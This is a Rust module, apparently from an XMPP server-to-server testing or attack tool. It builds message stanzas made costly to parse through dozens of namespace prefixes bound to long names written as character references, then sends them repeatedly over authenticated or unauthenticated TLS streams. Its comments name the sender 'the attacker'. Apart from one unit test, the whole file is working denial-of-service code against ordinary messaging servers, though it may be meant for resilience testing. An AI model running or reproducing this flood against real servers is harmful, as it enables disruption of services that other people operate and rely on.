//! Stanzas that are expensive to parse: many prefixes that are bound to long names, in many attributes.

use std::fmt::Write as _;
use std::io::BufRead as _;

use s2s_peer::error::Result;

use super::aim::{Aim, Opened};
use super::connections::{opened_for_writing, repeat};
use super::tally::Tally;

/// Number of prefixes, and of attributes of each element.
const PREFIXES: usize = 30;
/// Characters of a namespace name, each written as a reference.
const NAME_CHARACTERS: usize = 40;
/// Bytes of an unauthenticated server's element: fewer than servers accept before authentication.
const STRANGERS_BYTES: usize = 9_000;

/// A message of about this many bytes.
pub(crate) fn stanza(from: &str, to: &str, bytes: usize) -> String {
    let mut text = format!("<message from='x@{from}/r' to='y@{to}'");
    for prefix in 0..PREFIXES {
        let _ = write!(text, " xmlns:p{prefix}='");
        for _ in 0..NAME_CHARACTERS {
            text.push_str("&#x61;");
        }
        let _ = write!(text, "{prefix}'");
    }
    text.push('>');
    let attributes: String =
        (0..PREFIXES).fold(String::new(), |all, prefix| all + &format!(" p{prefix}:a=''"));
    while text.len() + attributes.len() + "</message>".len() < bytes {
        let _ = write!(text, "<a{attributes}/>");
    }
    text.push_str("</message>");
    text
}

/// Sends such stanzas: one after another if the attacker is authenticated, otherwise one on each stream.
pub(super) fn attributes(aim: &Aim, tally: &Tally) -> Result<()> {
    let tls = aim.tls()?;
    let authenticated = aim.identity.is_some();
    let bytes = if authenticated { aim.bytes } else { STRANGERS_BYTES };
    let stanza = stanza(&aim.from, &aim.domain, bytes);
    repeat(aim, tally, |_, _| {
        let Opened { mut stream, .. } = if authenticated {
            aim.authenticated(&aim.from, &tls, tally)?
        } else {
            aim.open(&aim.from, &tls, tally)?
        };
        opened_for_writing(&mut stream)?;
        while !tally.is_over() {
            stream.send(&stanza)?;
            tally.sent(stanza.len());
            if !authenticated {
                // The answer is the end of the stream.
                tally.received(stream.transport().fill_buf().map_or(0, <[u8]>::len));
                tally.ended();
                break;
            }
        }
        Ok(())
    });
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_stanza_is_well_formed_and_as_large_as_asked() {
        let text = stanza("a.example", "b.example", 50_000);
        assert!((49_000..=50_000).contains(&text.len()), "{}", text.len());
        let mut reader = quick_xml::NsReader::from_str(&text);
        while !matches!(reader.read_event().unwrap(), quick_xml::events::Event::Eof) {}
    }
}
